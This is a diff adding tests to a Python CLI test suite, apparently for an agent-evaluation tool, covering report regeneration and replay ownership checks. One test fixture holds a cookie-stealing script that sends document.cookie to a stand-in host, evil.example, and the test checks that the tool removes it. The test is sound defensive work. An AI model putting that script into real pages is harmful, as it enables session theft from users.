@@ -13,11 +13,13 @@ from typer.testing import CliRunner
 
 from made_runs import made_run
 from saccade.actions.errors import DataError, NewerSchemaError, UsageError
-from saccade.env.trajectory.trajectory import FILE_NAME
+from saccade.env.trajectory.ownership import SIGNATURE_NAME
+from saccade.env.trajectory.trajectory import FILE_NAME, Trajectory
 from saccade.tasks.cli.app import app
 from saccade.tasks.evaluation.folder import read_config, read_evaluation, read_records
 from saccade.tasks.osworld.cache import Cache
 from saccade.tasks.report.overview import row
+from saccade.tasks.report.pairing import pairing
 from saccade.tasks.suites.registry import get_suite
 from saccade.tasks.suites.rows import DataRow, read_rows
 
@@ -229,3 +231,36 @@ def test_files_of_osworlds_cache_are_in_the_tasks_folder(tmp_path: Path, task: s
     (tmp_path / "cache" / "t").mkdir(parents=True)
     (tmp_path / "cache" / "t" / "out").symlink_to(tmp_path)
     assert Cache(tmp_path / "cache").kept(task, name) is None
+
+
+# ---- reports
+
+
+def test_a_report_that_came_with_a_run_is_not_led_to_but_written_anew(runs: Path, tmp_path: Path) -> None:
+    """It may hold scripts of others."""
+    foreign = "<!doctype html>\n<script>fetch('http://evil.example/' + document.cookie)</script>\n"
+    (runs / "a" / "report.html").write_text(foreign, encoding="utf-8")
+    (tmp_path / "page.html").write_text(foreign, encoding="utf-8")
+    (runs / "z" / "report.html").symlink_to(tmp_path / "page.html")
+    assert command("view", "--no-open", runs)[0] == 0
+    pages = [(runs / name / "report.html").read_bytes() for name in ("a", "bad", "z")]
+    assert not any(b"evil" in page for page in pages)
+    assert (tmp_path / "page.html").read_text(encoding="utf-8") == foreign, "the link is replaced, and not followed"
+    written = [(runs / name / "report.html").stat().st_mtime_ns for name in ("a", "bad", "z")]
+    assert command("view", "--no-open", runs)[0] == 0
+    assert written == [(runs / name / "report.html").stat().st_mtime_ns for name in ("a", "bad", "z")]
+
+
+def test_a_replay_of_others_shows_no_recording_of_this_computer(tmp_path: Path) -> None:
+    mine = made_run(tmp_path / "mine", instruction="My own secret job")
+    theirs = made_run(tmp_path / "theirs", replay_of=str(tmp_path / "mine"), replay_mode="exact")
+    record = {"recording": str(mine.directory), "mode": "exact", "steps": [], "drift": None}
+    (theirs.directory / "replay.json").write_text(json.dumps(record), encoding="utf-8")
+    shown = pairing(Trajectory.load(theirs.directory))
+    assert shown is not None
+    assert shown.recording is not None
+    (theirs.directory / SIGNATURE_NAME).unlink()
+    shown = pairing(Trajectory.load(theirs.directory))
+    assert shown is not None
+    assert shown.recording is None
+    assert "was not made by you on this computer" in shown.note
